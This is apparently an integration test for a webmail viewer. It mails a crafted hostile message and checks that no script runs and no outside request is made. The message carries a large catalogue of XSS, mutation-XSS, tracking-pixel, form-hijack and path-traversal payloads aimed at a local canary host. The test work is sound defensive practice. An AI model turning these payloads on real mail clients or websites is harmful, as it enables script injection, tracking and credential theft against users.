package io.smtpra.it;

import static org.assertj.core.api.Assertions.assertThat;

import io.smtpra.it.Mails.StartTls;
import jakarta.mail.Session;
import jakarta.mail.internet.MimeMessage;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Properties;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.openqa.selenium.By;
import org.openqa.selenium.Keys;
import org.openqa.selenium.WebElement;

/** A mail of somebody who means harm to who reads it, in a real browser: nothing of it runs, nothing is fetched. */
@ExtendWith(ArquillianExtension.class)
class HostileMailIT {

    private static final String SUBJECT = "#mails .row .subject b";

    /** Each of them tries to set a mark or to reach the canary; {@code @} stands for its address. */
    private static final List<String> TRICKS = List.of(
            "<script>@RUN@</script>",
            "<script src='http://@/script.js'></script>",
            "<script type=module>import 'http://@/module.js'</script>",
            "<img src=x onerror=\"@RUN@\">",
            "<img src='http://@/image.png'><img srcset='http://@/image2.png 1x'>",
            "<svg onload=\"@RUN@\"><image href='http://@/svg.png'/><script>@RUN@</script></svg>",
            "<svg><use href='http://@/use.svg#a'/><animate onbegin=\"@RUN@\" attributeName=x dur=1s /></svg>",
            "<svg><style><img src=x onerror=\"@RUN@\"></style></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=\"@RUN@\"></style></mglyph></table></mtext></math>",
            "<noscript><p title=\"</noscript><img src=x onerror=@RUN@>\"></p></noscript>",
            "<base href='http://@/base/'><img src='relative.png'>",
            "<base target='_top'>",
            "<meta http-equiv=refresh content='0;url=http://@/refresh'>",
            "<meta http-equiv=set-cookie content='SMTPRAMAIL=stolen'>",
            "<link rel=stylesheet href='http://@/link.css'>",
            "<link rel=preconnect href='http://@/'><link rel=dns-prefetch href='//@'>",
            "<link rel=prefetch href='http://@/prefetch'><link rel=preload as=image href='http://@/preload.png'>",
            "<link rel=prerender href='http://@/prerender'><link rel=icon href='http://@/icon.png'>",
            "<style>@import 'http://@/import.css'; body { background: url(http://@/background.png) }"
                    + " @font-face { font-family: f; src: url(http://@/font.woff) } p { font-family: f }</style>",
            "<div style=\"background-image: url('http://@/style.png'); list-style: url(http://@/list.png)\">"
                    + "styled</div>",
            "<iframe src='http://@/frame'></iframe><iframe srcdoc=\"<script>@RUN@</script>\"></iframe>",
            "<object data='http://@/object.swf'></object><embed src='http://@/embed.swf'>"
                    + "<applet code='http://@/applet'></applet>",
            "<video autoplay src='http://@/video.mp4' poster='http://@/poster.png'></video>"
                    + "<audio autoplay src='http://@/audio.mp3'></audio>",
            "<form id=steal action='http://@/form' method=post><input name=password autofocus onfocus=\"@RUN@\">"
                    + "<button>Log in again</button></form><input form=steal type=image src='http://@/input.png'>",
            "<form action='/mail/j_security_check' method=post><button formaction='http://@/formaction'>Next</button>"
                    + "</form>",
            "<table background='http://@/table.png'><tr><td background='http://@/cell.png'>cell</table>",
            "<details open ontoggle=\"@RUN@\"><summary>more</summary></details><marquee onstart=\"@RUN@\">m</marquee>",
            "<picture><source srcset='http://@/picture.png'><img src=''></picture>",
            "<template shadowrootmode=open><img src='http://@/shadow.png'></template>",
            "<a id=js href='javascript:@RUN@'>script</a> <a id=js2 href='java&#10;script:@RUN@'>script</a>"
                    + " <a id=js3 href='data:text/html,<script>@RUN@</script>' target=_top>data</a>",
            "<!--[if mso]><img src='http://@/mso.png'><![endif]--><xml><img src='http://@/xml.png'></xml>",
            "<div style='position:fixed;inset:0;z-index:99999'>over everything</div>");

    private static final String RUN = "try { parent.document.title = `ran`; top.ran = true } catch (e) {}"
            + " new Image().src = `http://@/ran`; alert(`ran`)";

    private static final String MARKUP = "<img/src=x/onerror=alert('ran')>";

    @RegisterExtension
    static final WildFly WILDFLY = new WildFly();

    @RegisterExtension
    static final Browser BROWSER = new Browser();

    private Canary canary;

    @BeforeAll
    static void deploy() throws Exception {
        MailboxUsers.setUp(WILDFLY);
        WILDFLY.deploy(Archives.ear());
    }

    @BeforeEach
    void listen() throws Exception {
        canary = new Canary();
    }

    @AfterEach
    void close() throws Exception {
        canary.close();
    }

    @Test
    void nothingRunsAndNothingIsFetched() throws Exception {
        send(mail("Hostile", TRICKS));
        openMail("Hostile " + MARKUP);
        for (String panel : List.of("1", "2", "3", "4", "5", "2")) {
            BROWSER.press(panel);
            BROWSER.find("#panel > *");
        }
        WebElement frame = BROWSER.find("#panel iframe");
        BROWSER.awaitText("#mail h2", MARKUP);
        BROWSER.screenshot("hostile-mail");

        BROWSER.driver().switchTo().frame(frame);
        assertThat(BROWSER.find("body").getText()).contains("begins", "ends", "styled");
        for (WebElement link : BROWSER.driver().findElements(By.tagName("a"))) {
            BROWSER.script("arguments[0].click()", link);
        }
        assertThat(BROWSER.script("return location.href").toString()).matches(".*/mail/api/mails/[^/]+/html");
        BROWSER.driver().switchTo().defaultContent();

        viewAttachments();
        assertThat(BROWSER.driver().getWindowHandles()).hasSize(1);
        assertThat(canary.connections()).isEmpty();
        assertThat(BROWSER.script("return [window.ran, document.title]").toString()).doesNotContain("true", "ran]");
        assertThat(BROWSER.driver().getCurrentUrl()).contains("/mail/#");
        assertThat(BROWSER.driver().findElements(By.cssSelector("main img, #mail b, main script"))).isEmpty();

        // the browser would have found the canary, and what it tried would have come before this
        BROWSER.driver().get("http://" + canary.authority() + "/control");
        Await.until("the control", () -> !canary.requests().isEmpty());
        assertThat(canary.requests()).containsExactly("GET /control HTTP/1.1");
    }

    /** What holds even if something got into the document that should not be there. */
    @Test
    void theDocumentIsWithoutOriginScriptsAndRequestsOfItsOwn() throws Exception {
        send(mail("Document", List.of("<p>text</p>")));
        openMail("Document " + MARKUP);
        BROWSER.press("2");
        WebElement frame = BROWSER.find("#panel iframe");
        assertThat(frame.getDomAttribute("sandbox").split(" ")).doesNotContain("allow-scripts", "allow-same-origin",
                "allow-forms", "allow-top-navigation", "allow-top-navigation-by-user-activation");
        List<?> headers = (List<?>) BROWSER.scriptThatCallsBack("""
                const done = arguments[arguments.length - 1];
                fetch(arguments[0]).then(answer => done([...answer.headers].map(header => header.join(': '))));
                """, frame.getDomProperty("src"));
        String policy = headers.stream().map(Object::toString)
                .filter(header -> header.startsWith("content-security-policy: ")).findFirst().orElseThrow();
        assertThat(policy).contains("sandbox", "default-src 'none'", "form-action 'none'", "base-uri 'none'")
                .doesNotContain("allow-scripts", "allow-same-origin", "allow-forms", "script-src");
        assertThat(headers.toString()).contains("x-content-type-options: nosniff", "referrer-policy: no-referrer");
        List<?> page = (List<?>) BROWSER.scriptThatCallsBack("""
                const done = arguments[arguments.length - 1];
                fetch('./').then(answer => done([answer.headers.get('content-security-policy')]));
                """);
        assertThat(page.get(0).toString()).contains("default-src 'none'", "script-src 'self'", "style-src 'self'",
                "frame-ancestors 'none'").doesNotContain("unsafe");
    }

    @Test
    void imagesElsewhereAreFetchedOnlyAfterAClick() throws Exception {
        send(mail("Newsletter", List.of("<img src='http://@/pixel.png' alt=pixel>",
                "<link rel=preconnect href='http://@/'>")));
        openMail("Newsletter " + MARKUP);
        BROWSER.press("2");
        BROWSER.find("#panel iframe");
        assertThat(canary.connections()).isEmpty();
        BROWSER.click("#panel .frame-head button");
        Await.until("the image to be fetched", () -> !canary.requests().isEmpty());
        assertThat(canary.requests()).containsExactly("GET /pixel.png HTTP/1.1");
    }

    @Test
    void aLinkOpensATabThatKnowsNothingOfTheMailbox() throws Exception {
        send(mail("Link", List.of("<a id=go href='http://@/wanted' target=_top>go</a>")));
        openMail("Link " + MARKUP);
        BROWSER.press("2");
        WebElement frame = BROWSER.find("#panel iframe");
        String mailbox = BROWSER.driver().getWindowHandle();
        BROWSER.driver().switchTo().frame(frame);
        BROWSER.click("#go");
        Await.until("the link to be followed", () -> !canary.requests().isEmpty());
        BROWSER.driver().switchTo().window(mailbox);
        assertThat(canary.requests()).containsExactly("GET /wanted HTTP/1.1");
        assertThat(BROWSER.driver().getCurrentUrl()).contains("/mail/#");
        for (String window : BROWSER.driver().getWindowHandles()) {
            if (!window.equals(mailbox)) {
                BROWSER.driver().switchTo().window(window);
                assertThat(BROWSER.script("return window.opener")).isNull();
                BROWSER.driver().close();
            }
        }
        BROWSER.driver().switchTo().window(mailbox);
    }

    private void viewAttachments() throws Exception {
        List<WebElement> views = BROWSER.driver().findElements(By.cssSelector("#mail .parts button"));
        assertThat(views).isNotEmpty();
        for (WebElement view : views) {
            view.click();
            Await.until("the attachment", () -> BROWSER.texts("#viewer-content").stream()
                    .anyMatch(text -> !text.isBlank() && !text.startsWith("Loading")));
            BROWSER.press(Keys.ESCAPE);
            BROWSER.awaitNone("#viewer");
        }
        WebElement page = BROWSER.driver().findElements(By.cssSelector("#mail .parts a")).get(0);
        page.click();
        Path saved = BROWSER.awaitSaved();
        assertThat(saved.getFileName().toString()).doesNotContain("/", "\\", "<", ">", "..").endsWith(".html");
        assertThat(BROWSER.driver().getWindowHandles()).hasSize(1);
    }

    private static void openMail(String subject) {
        BROWSER.open("/mail/");
        BROWSER.write("#user", MailboxUsers.MONA);
        BROWSER.write("#password", MailboxUsers.MONAS_PASSWORD);
        BROWSER.click("#log-in");
        BROWSER.awaitText(SUBJECT, subject);
        BROWSER.press("j");
        BROWSER.awaitText("#mail h2", subject);
    }

    private static void send(String mail) throws Exception {
        MimeMessage message = new MimeMessage(Session.getInstance(new Properties()),
                new ByteArrayInputStream(mail.getBytes(StandardCharsets.UTF_8)));
        Mails.send(message, StartTls.REQUIRED);
    }

    private String mail(String subject, List<String> tricks) {
        String html = "<html><head><title>t</title></head>\r\n"
                + "<body background='http://@/body.png' onload=\"@RUN@\"><p>begins</p>\r\n"
                + String.join("\r\n", tricks) + "\r\n<p>ends</p></body></html>";
        return """
                From: "<script>alert('ran')</script>" <mallory@example.org>
                To: inbox@example.com
                Subject: %1$s %2$s
                X-%2$s: %2$s
                Message-ID: <%2$s@example.org>
                MIME-Version: 1.0
                Content-Type: multipart/mixed; boundary=b

                --b
                Content-Type: multipart/alternative; boundary=a

                --a
                Content-Type: text/plain; charset=utf-8

                %2$s javascript:alert('ran') http://@/text"onmouseover="alert('ran')
                <script>alert('ran')</script>
                --a
                Content-Type: text/html; charset=utf-8

                %3$s
                --a--
                --b
                Content-Type: text/html; name="../../%2$s.html"
                Content-Disposition: attachment; filename="../../%2$s.html"

                <script>alert('ran')</script><img src='http://@/attached.png'>
                --b
                Content-Type: image/svg+xml
                Content-Disposition: inline; filename="drawing.svg"

                <svg xmlns="http://www.w3.org/2000/svg" onload="alert('ran')"><image href="http://@/drawing.png"/></svg>
                --b
                Content-Type: image/png
                Content-Disposition: attachment; filename="not-an-image.png"

                <html><script>alert('ran')</script></html>
                --b--
                """.formatted(subject, MARKUP, html.replace("@RUN@", RUN))
                .replace("@/", canary.authority() + "/").replace("//@'", "//" + canary.authority() + "'")
                .replace("\r\n", "\n").replace("\n", "\r\n");
    }
}
